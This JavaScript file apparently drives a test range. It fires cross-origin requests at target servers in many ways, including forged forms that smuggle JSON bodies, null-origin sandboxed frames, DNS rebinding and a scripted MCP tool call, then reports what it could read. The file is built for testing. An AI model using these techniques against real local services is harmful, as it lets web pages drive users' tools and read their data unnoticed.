"use strict";
// A page of the range: sends its shots, tells what it could read, and goes to the next page.

const SECONDS = 1000;
const MOST = 10;

const after = (seconds) => new Promise((resolve) => setTimeout(resolve, seconds * SECONDS, ""));

// What the server of a shot has answered; a page is not told what came of most.
const arrived = async (shot) => {
  for (let tries = 0; tries < 150; tries += 1) {
    const answer = await fetch(`/-/range/arrived?shot=${shot.id}`);
    if (await answer.json()) return;
    await after(0.05);
  }
};

const loaded = (element) =>
  new Promise((resolve) => {
    element.onload = element.onerror = () => resolve("");
  });

const place = async (shot, name, attribute, more = {}) => {
  const element = Object.assign(document.createElement(name), more);
  element[attribute] = shot.url;
  const done = loaded(element);
  document.body.append(element);
  await Promise.race([done, arrived(shot).then(() => after(0.2))]);
  element.remove();
  return "";
};

const form = (enctype, fields) => async (shot) => {
  const frame = document.createElement("iframe");
  frame.name = shot.id;
  document.body.append(frame);
  const sender = Object.assign(document.createElement("form"), {
    action: shot.url, method: "post", target: shot.id, enctype,
  });
  for (const [name, value] of fields(shot)) {
    sender.append(Object.assign(document.createElement("input"), { name, value, type: "hidden" }));
  }
  document.body.append(sender);
  const done = loaded(frame);
  sender.submit();
  await Promise.race([done, after(3)]);
  await arrived(shot);
  sender.remove();
  frame.remove();
  return "";
};

const ofForm = () => [["amount", "1000"]];
// Any JSON object, by the one `=` that a form of this type writes.
const asJson = (shot) => [[`${shot.body.slice(0, -1)}${shot.body === "{}" ? "" : ","}"x":"`, '"}']];

const aborting = () => {
  const controller = new AbortController();
  setTimeout(() => controller.abort(), 5 * SECONDS);
  return controller.signal;
};

const options = (shot) => ({
  method: shot.method, headers: shot.headers, body: shot.body ?? undefined, signal: aborting(),
});

const sandboxed = async (shot, program) => {
  const frame = Object.assign(document.createElement("iframe"), {
    sandbox: "allow-scripts allow-forms",
    srcdoc: `<body><script>const shot = ${JSON.stringify(shot)};${program}</script>`,
  });
  document.body.append(frame);
  await arrived(shot);
  frame.remove();
  return "";
};

const WAYS = {
  beacon: async (shot) => {
    navigator.sendBeacon(shot.url, new Blob([shot.body], { type: "text/plain" }));
    await arrived(shot);
    return "";
  },
  fetch: async (shot) => (await fetch(shot.url, options(shot))).text(),
  "form-multipart": form("multipart/form-data", ofForm),
  "form-plain": form("text/plain", asJson),
  "form-urlencoded": form("application/x-www-form-urlencoded", ofForm),
  "form-redirected": form("application/x-www-form-urlencoded", ofForm),
  frame: (shot) => place(shot, "iframe", "src"),
  image: (shot) => place(shot, "img", "src"),
  "image-cors": (shot) => place(shot, "img", "src", { crossOrigin: "anonymous" }),
  "image-redirected": (shot) => place(shot, "img", "src"),
  mcp: async (shot) => {
    const call = async (method, params, headers = {}) =>
      fetch(shot.url, {
        method: "POST",
        headers: { "Content-Type": "application/json", Accept: "application/json, text/event-stream", ...headers },
        body: JSON.stringify({ jsonrpc: "2.0", ...(method.startsWith("notifications/") ? {} : { id: 1 }), method, params }),
        signal: aborting(),
      });
    const protocolVersion = "2025-06-18";
    const clientInfo = { name: "page", version: "1" };
    const begun = await call("initialize", { protocolVersion, capabilities: {}, clientInfo });
    if (!begun.ok) return "";
    const session = begun.headers.get("mcp-session-id");
    const headers = { "Mcp-Session-Id": session, "MCP-Protocol-Version": protocolVersion };
    await call("notifications/initialized", {}, headers);
    const called = await call("tools/call", { name: "note", arguments: { text: "milk" } }, headers);
    const text = await called.text();
    // Firefox says that there is an answer when the first event comes, or the end.
    const opening = fetch(`${shot.url}-stream`, {
      headers: { Accept: "text/event-stream", ...headers }, signal: aborting(),
    });
    await arrived({ id: `${shot.id}-stream` });
    const deleted = await fetch(shot.url, { method: "DELETE", headers, signal: aborting() });
    const stream = await opening;
    const kept = text.includes("kept: milk") ? "kept" : text;
    return `${kept}, ${stream.status} ${stream.headers.get("content-type")}, ${deleted.status}`;
  },
  "no-cors": async (shot) => {
    await fetch(shot.url, { method: shot.method, body: shot.body, mode: "no-cors", signal: aborting() });
    return "";
  },
  object: (shot) => place(shot, "object", "data"),
  sandbox: (shot) =>
    sandboxed(shot, 'fetch(shot.url, { method: "POST", body: shot.body, mode: "no-cors" })'),
  "sandbox-form": (shot) =>
    sandboxed(
      shot,
      'document.write("<form method=post>");document.forms[0].action = shot.url;document.forms[0].submit()',
    ),
  script: (shot) => place(shot, "script", "src"),
  socket: (shot) =>
    new Promise((resolve) => {
      const socket = new WebSocket(shot.url.replace(/^http/, "ws"));
      const end = (text) => {
        socket.onclose = null;
        socket.close();
        resolve(text);
      };
      socket.onmessage = (message) => end(message.data);
      socket.onclose = () => end("");
    }),
  source: (shot) =>
    new Promise((resolve) => {
      const source = new EventSource(shot.url);
      const end = (text) => {
        source.close();
        resolve(text);
      };
      source.onmessage = (message) => end(message.data);
      source.onerror = () => end("");
    }),
  stream: async (shot) => {
    const answer = await fetch(shot.url, options(shot));
    const reader = answer.body.getReader();
    const decoder = new TextDecoder();
    for (let text = ""; ; ) {
      const { done, value } = await reader.read();
      text += decoder.decode(value, { stream: true });
      // The stream stays open: an event is enough.
      if (done || text.includes("secret")) {
        await reader.cancel();
        return text;
      }
    }
  },
  style: (shot) => place(shot, "link", "href", { rel: "stylesheet" }),
};

const send = async (shot) => {
  try {
    return await Promise.race([WAYS[shot.way](shot), after(8)]);
  } catch {
    return "";
  }
};

const main = async () => {
  const { shots, next } = await (await fetch("script.json")).json();
  // Only now does the page's name lead to the tool, if it is one that rebinds.
  await fetch("rebind", { method: "POST" });
  const read = {};
  const waiting = [...shots];
  const work = async () => {
    for (let shot = waiting.shift(); shot; shot = waiting.shift()) read[shot.id] = await send(shot);
  };
  await Promise.all(Array.from({ length: MOST }, work));
  await fetch("report", { method: "POST", body: JSON.stringify(read) });
  if (next) location.href = next;
};

main();
